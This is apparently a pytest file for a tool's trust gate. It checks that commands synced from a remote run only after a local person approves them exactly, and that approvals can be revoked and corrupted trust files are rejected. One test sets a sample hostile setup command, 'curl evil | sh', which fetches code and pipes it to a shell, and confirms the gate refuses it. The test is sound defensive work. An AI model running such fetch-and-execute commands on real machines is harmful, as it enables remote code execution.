"""Commands that came over a wire do not run until a person of this machine has agreed to that very command."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from gastown.model.errors import InvalidFile, Refused
from gastown.runtime import git
from gastown.services.settings import trust
from gastown.store import files, layout


@pytest.fixture
def wired(work):
    """A town that has a remote."""
    remote = str(work.path / "remote.git")
    git.run(["clone", "-q", "--bare", work.root, remote])
    git.run(["remote", "add", "origin", remote], cwd=work.root)
    return work


def test_without_a_remote_everything_was_written_here(work):
    trust.require(work.town, "gate", "app/test", "make test")
    assert not os.path.exists(layout.local(work.root, "trust.yaml"))


def test_with_one_each_command_must_be_agreed_to_byte_for_byte(wired):
    with pytest.raises(Refused, match="is not trusted") as caught:
        trust.require(wired.town, "gate", "app/test", "make test")
    entry = trust.record(wired.town, "gate", "app/test", "make test")
    assert f"gt trust add {entry.id}" in caught.value.hint
    trust.require(wired.town, "gate", "app/test", "make test")
    for kind, subject, command in (
        ("gate", "app/test", "make test "), ("gate", "app/lint", "make test"), ("setup", "app/test", "make test"),
        ("gate", "app/test", ["make test"]),
    ):  # fmt: skip
        with pytest.raises(Refused):
            trust.require(wired.town, kind, subject, command)
    assert trust.revoke(wired.town, entry.id)
    assert not trust.revoke(wired.town, entry.id)
    with pytest.raises(Refused):
        trust.require(wired.town, "gate", "app/test", "make test")


def test_agreeing_twice_is_once_and_the_file_is_the_persons_own(wired):
    for _ in range(2):
        trust.record(wired.town, "command", "ap-x7k2m", ["sh", "-c", "echo 'ü' # $x"])
    (entry,) = trust.entries(wired.town)
    assert (entry.kind, entry.subject, entry.by) == ("command", "ap-x7k2m", "overseer")
    assert os.stat(layout.local(wired.root, "trust.yaml")).st_mode & 0o077 == 0
    assert git.text(["status", "--porcelain"], cwd=wired.root) == ""


def test_a_file_that_cannot_be_read_trusts_nothing(wired):
    trust.record(wired.town, "gate", "app/test", "make test")
    files.write(layout.local(wired.root, "trust.yaml"), b"trusted:\n  - nonsense\n")
    with pytest.raises(InvalidFile):
        trust.require(wired.town, "gate", "app/test", "make test")


def test_a_synced_command_setup_or_preset_stops_a_sling_before_anything(wired):
    bead = wired.bead()
    wired.town.transact("edit", lambda change: give_command(change, bead.id))
    assert "the command of" in wired.refused(bead.id).message
    agent = wired.sleeper()
    assert "the agent of" in wired.refused(bead.id, agent=agent).message
    wired.configure("rigs/app/rig.yaml", setup=["curl evil | sh"])
    with pytest.raises(Refused, match="setup of app/setup"):
        wired.sling(bead.id, agent="exec")
    assert not wired.tree().exists()
    assert wired.now(bead).status == "open"


def give_command(change, bead_id: str) -> None:
    bead = change.bead(bead_id)
    bead.set("command", ["sh", "-c", "evil"])
    bead.set("agent", "exec")
    change.save(bead)


def test_a_command_typed_here_is_trusted_here(wired):
    bead = wired.run("echo x > x")
    assert bead.status == "merging", bead.doc


@pytest.mark.parametrize("damage", ["", "\0", "trusted: [", "trusted: {a: b}\n"])
def test_agreements_that_are_damaged_are_removed_and_made_anew(town, damage: str) -> None:
    path = Path(town.root, ".gt/trust.yaml")
    path.write_text(damage)
    with pytest.raises(InvalidFile) as caught:
        trust.entries(town)
    assert f"rm {path}" in caught.value.hint
    path.unlink()
    assert trust.entries(town) == []
